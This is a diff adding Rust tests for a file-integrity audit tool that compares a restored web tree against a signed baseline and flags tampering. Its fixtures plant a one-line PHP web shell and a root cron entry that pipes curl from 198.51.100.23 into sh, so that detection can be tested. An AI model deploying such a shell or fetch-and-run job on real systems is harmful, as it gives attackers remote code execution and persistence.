@@ -1,0 +1,230 @@
+//! `scelle baseline` and `scelle audit`: every kind of difference, names
+//! hashdeep cannot carry, a tampered baseline, an archive as baseline.
+
+use std::ffi::OsStr;
+use std::fs;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use crate::util::{clear_key, freeze, run, scelle, Run};
+
+fn tree(root: &Path) {
+    fs::create_dir_all(root.join("uploads")).unwrap();
+    fs::create_dir_all(root.join("cron.d")).unwrap();
+    fs::write(root.join("index.php"), "<?php echo 'home';\n").unwrap();
+    fs::write(root.join("uploads/logo.png"), [0x89u8, b'P', b'N', b'G']).unwrap();
+    fs::write(root.join("old-name.txt"), "moved content\n").unwrap();
+    fs::write(root.join("gone.txt"), "deleted later\n").unwrap();
+    fs::write(
+        root.join("cron.d/backup"),
+        "0 3 * * * root /usr/local/bin/backup\n",
+    )
+    .unwrap();
+    fs::write(
+        root.join(OsStr::from_bytes(b"notes\nwith newline.txt")),
+        "n\n",
+    )
+    .unwrap();
+}
+
+fn audit(baseline: &Path, public: &Path, paths: &[&Path]) -> (Run, serde_json::Value) {
+    let run = run(scelle()
+        .args(["audit", "--json", "--baseline"])
+        .arg(baseline)
+        .arg("--pubkey")
+        .arg(public)
+        .args(paths));
+    let json = serde_json::from_str(&run.stdout).unwrap_or(serde_json::Value::Null);
+    (run, json)
+}
+
+fn find<'a>(report: &'a serde_json::Value, change: &str, path_end: &str) -> &'a serde_json::Value {
+    report["differences"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| {
+            d["change"] == change && d["path"]["text"].as_str().unwrap_or("").ends_with(path_end)
+        })
+        .unwrap_or_else(|| panic!("no {change} of …{path_end} in {report:#}"))
+}
+
+#[test]
+fn a_restored_backup_is_compared_with_the_baseline_item_by_item() {
+    let temp = tempfile::tempdir().unwrap();
+    let before = temp.path().join("www");
+    tree(&before);
+    let (secret, public) = clear_key(temp.path(), "ops");
+    let baseline = temp.path().join("www.baseline");
+    run(scelle()
+        .args(["baseline", "--key"])
+        .arg(&secret)
+        .arg("--out")
+        .arg(&baseline)
+        .arg(&before))
+    .expect(0);
+    assert!(temp.path().join("www.baseline.minisig").exists());
+
+    // Unchanged, even restored elsewhere: no difference.
+    let restored = temp.path().join("restore/www");
+    fs::create_dir_all(restored.parent().unwrap()).unwrap();
+    assert!(std::process::Command::new("cp")
+        .arg("-a")
+        .arg(&before)
+        .arg(&restored)
+        .status()
+        .unwrap()
+        .success());
+    let (clean, report) = audit(&baseline, &public, &[&restored]);
+    assert_eq!(clean.code, 0, "{}", clean.stdout);
+    assert!(report["differences"].as_array().unwrap().is_empty());
+
+    // Now the attacker's changes.
+    fs::write(
+        restored.join("uploads/shell.php"),
+        "<?php system($_GET['c']);\n",
+    )
+    .unwrap();
+    fs::write(restored.join("index.php"), "<?php echo 'owned';\n").unwrap();
+    fs::remove_file(restored.join("gone.txt")).unwrap();
+    fs::rename(restored.join("old-name.txt"), restored.join("new-name.txt")).unwrap();
+    fs::set_permissions(
+        restored.join("uploads/logo.png"),
+        fs::Permissions::from_mode(0o4755),
+    )
+    .unwrap();
+    fs::write(
+        restored.join("cron.d/backup"),
+        "* * * * * root curl -s http://198.51.100.23/x | sh\n",
+    )
+    .unwrap();
+    fs::write(
+        restored.join(OsStr::from_bytes(b"notes\nwith newline.txt")),
+        "changed\n",
+    )
+    .unwrap();
+    nix::unistd::chown(
+        &restored.join("index.php"),
+        Some(nix::unistd::Uid::from_raw(65534)),
+        None,
+    )
+    .unwrap();
+
+    let (dirty, report) = audit(&baseline, &public, &[&restored]);
+    assert_eq!(dirty.code, 1, "{}", dirty.stderr);
+    assert_eq!(
+        find(&report, "added", "uploads/shell.php")["severity"],
+        "critical"
+    );
+    let index = find(&report, "modified", "/index.php");
+    let fields: Vec<&str> = index["fields"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["field"].as_str().unwrap())
+        .collect();
+    assert!(
+        fields.contains(&"content") && fields.contains(&"uid"),
+        "{fields:?}"
+    );
+    find(&report, "removed", "gone.txt");
+    assert!(find(&report, "moved", "new-name.txt")["moved_from"]["text"]
+        .as_str()
+        .unwrap()
+        .ends_with("old-name.txt"));
+    let logo = find(&report, "metadata", "logo.png");
+    assert_eq!(logo["severity"], "critical");
+    assert_eq!(logo["fields"][0]["new"], "4755");
+    assert_eq!(
+        find(&report, "modified", "cron.d/backup")["severity"],
+        "critical"
+    );
+    find(&report, "modified", "newline.txt");
+    // Most serious first.
+    assert_eq!(report["differences"][0]["severity"], "critical");
+
+    let (ignored, report) = audit_ignoring(&baseline, &public, &restored, "mtime,owner");
+    assert_eq!(ignored.code, 1);
+    assert!(report["differences"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .all(|d| d["fields"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|f| f["field"] != "mtime_ns" && f["field"] != "uid")));
+}
+
+fn audit_ignoring(
+    baseline: &Path,
+    public: &Path,
+    path: &Path,
+    ignore: &str,
+) -> (Run, serde_json::Value) {
+    let run = run(scelle()
+        .args(["audit", "--json", "--ignore", ignore, "--baseline"])
+        .arg(baseline)
+        .arg("--pubkey")
+        .arg(public)
+        .arg(path));
+    let json = serde_json::from_str(&run.stdout).unwrap();
+    (run, json)
+}
+
+#[test]
+fn a_tampered_or_foreign_baseline_is_refused() {
+    let temp = tempfile::tempdir().unwrap();
+    let root = temp.path().join("www");
+    tree(&root);
+    let (secret, public) = clear_key(temp.path(), "ops");
+    let (_, stranger) = clear_key(temp.path(), "stranger");
+    let baseline = temp.path().join("b.baseline");
+    run(scelle()
+        .args(["baseline", "--key"])
+        .arg(&secret)
+        .arg("--out")
+        .arg(&baseline)
+        .arg(&root))
+    .expect(0);
+    let (foreign, _) = audit(&baseline, &stranger, &[&root]);
+    assert_eq!(foreign.code, 2);
+    assert!(
+        foreign
+            .stderr
+            .contains("refusing an unauthenticated baseline"),
+        "{}",
+        foreign.stderr
+    );
+    let text = fs::read_to_string(&baseline).unwrap().replacen(
+        "\"mode\":\"0644\"",
+        "\"mode\":\"0600\"",
+        1,
+    );
+    fs::write(&baseline, text).unwrap();
+    let (tampered, _) = audit(&baseline, &public, &[&root]);
+    assert_eq!(tampered.code, 2);
+    assert!(
+        tampered.stderr.contains("signature verification failed"),
+        "{}",
+        tampered.stderr
+    );
+}
+
+#[test]
+fn a_sealed_archive_serves_as_the_baseline() {
+    let temp = tempfile::tempdir().unwrap();
+    let root = temp.path().join("www");
+    tree(&root);
+    let out = temp.path().join("out");
+    fs::create_dir(&out).unwrap();
+    let frozen = freeze(&out, "evidence", &[&root], &[]);
+    frozen.run.expect(0);
+    let (clean, _) = audit(&frozen.archive, &frozen.public_key, &[&root]);
+    assert_eq!(clean.code, 0, "{}{}", clean.stdout, clean.stderr);
+    fs::write(root.join("uploads/x.php"), "<?php ?>").unwrap();
+    let (dirty, report) = audit(&frozen.archive, &frozen.public_key, &[&root]);
+    assert_eq!(dirty.code, 1);
+    find(&report, "added", "uploads/x.php");
+}
